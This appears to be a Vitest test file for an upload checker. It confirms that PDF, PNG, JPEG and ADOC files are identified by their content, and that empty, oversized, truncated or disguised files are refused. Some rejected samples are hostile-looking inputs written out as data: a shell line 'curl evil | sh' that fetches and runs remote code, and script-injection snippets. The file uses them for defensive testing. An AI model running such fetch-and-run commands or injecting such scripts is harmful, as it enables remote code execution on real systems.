import { describe, expect, it } from "vitest";
import { checkContent, type FileLimits } from "../../../functions/uploads/content.ts";

const proof: FileLimits = { types: ["pdf", "jpeg", "png", "adoc"], maxBytes: 4096 };
const bytes = (text: string): Uint8Array => Buffer.from(text, "latin1");

const pdf = bytes("%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n");
const png = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
const jpeg = bytes(`\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF${"\u0000".repeat(40)}\u00ff\u00d9`);

/** A ZIP with one stored entry at its head; enough of one to be told apart by its content. */
function zip(entry: string, content: string, tail = "META-INF/manifest.xml"): Uint8Array {
  const head = Buffer.alloc(30);
  head.write("PK\u0003\u0004", "latin1");
  head.writeUInt32LE(content.length, 18);
  head.writeUInt32LE(content.length, 22);
  head.writeUInt16LE(entry.length, 26);
  return Buffer.concat([head, bytes(`${entry}${content}${tail}PK\u0005\u0006`), Buffer.alloc(18)]);
}
const adoc = zip("mimetype", "application/vnd.lt.archyvai.adoc-2008");

describe("the content of a file decides what it is", () => {
  it.each([
    ["pdf", pdf],
    ["png", png],
    ["jpeg", jpeg],
    ["adoc", adoc],
  ])("takes a %s for what it is", async (type, body) => {
    expect(await checkContent(body, proof, false)).toEqual({ outcome: "clean", type });
  });

  it.each([
    ["an empty file", new Uint8Array(0), "empty"],
    ["a file over the field's size", new Uint8Array(4097), "tooLarge"],
    ["a script that is called a PDF", bytes("#!/bin/sh\ncurl evil | sh\n"), "otherType"],
    ["a page of HTML", bytes("<!doctype html><script>alert(1)</script>"), "otherType"],
    ["a Windows program", bytes(`MZ${"\u0000".repeat(100)}`), "otherType"],
    ["an SVG, which can hold scripts", bytes("<svg xmlns='http://www.w3.org/2000/svg'/>"), "otherType"],
    ["a ZIP that does not say that it is an ADOC", zip("letter.txt", "Labas"), "otherType"],
    ["a PDF cut off on the way", pdf.subarray(0, pdf.byteLength - 20), "damaged"],
    ["a script behind the first letters of a PDF", bytes("%PDF-1.4\n<script>alert(1)</script>"), "damaged"],
    ["a picture cut off on the way", png.subarray(0, png.byteLength - 12), "damaged"],
    ["an ADOC without its manifest", zip("mimetype", "application/vnd.lt.archyvai.adoc-2008", ""), "damaged"],
  ])("refuses %s", async (_what, body, fault) => {
    expect(await checkContent(body, proof, false)).toEqual({ outcome: "refused", fault });
  });

  it("takes a file of exactly the field's size and refuses one byte more", async () => {
    const maxBytes = pdf.byteLength;
    expect(await checkContent(pdf, { ...proof, maxBytes }, false)).toMatchObject({ outcome: "clean" });
    expect(await checkContent(pdf, { ...proof, maxBytes: maxBytes - 1 }, false)).toEqual({
      outcome: "refused",
      fault: "tooLarge",
    });
  });

  it("refuses a type that this field does not take", async () => {
    expect(await checkContent(png, { ...proof, types: ["pdf"] }, false)).toEqual({
      outcome: "refused",
      fault: "otherType",
    });
  });

  it("believes the scanner, whatever the file looks like", async () => {
    expect(await checkContent(pdf, proof, true)).toEqual({ outcome: "refused", fault: "malware" });
  });
});
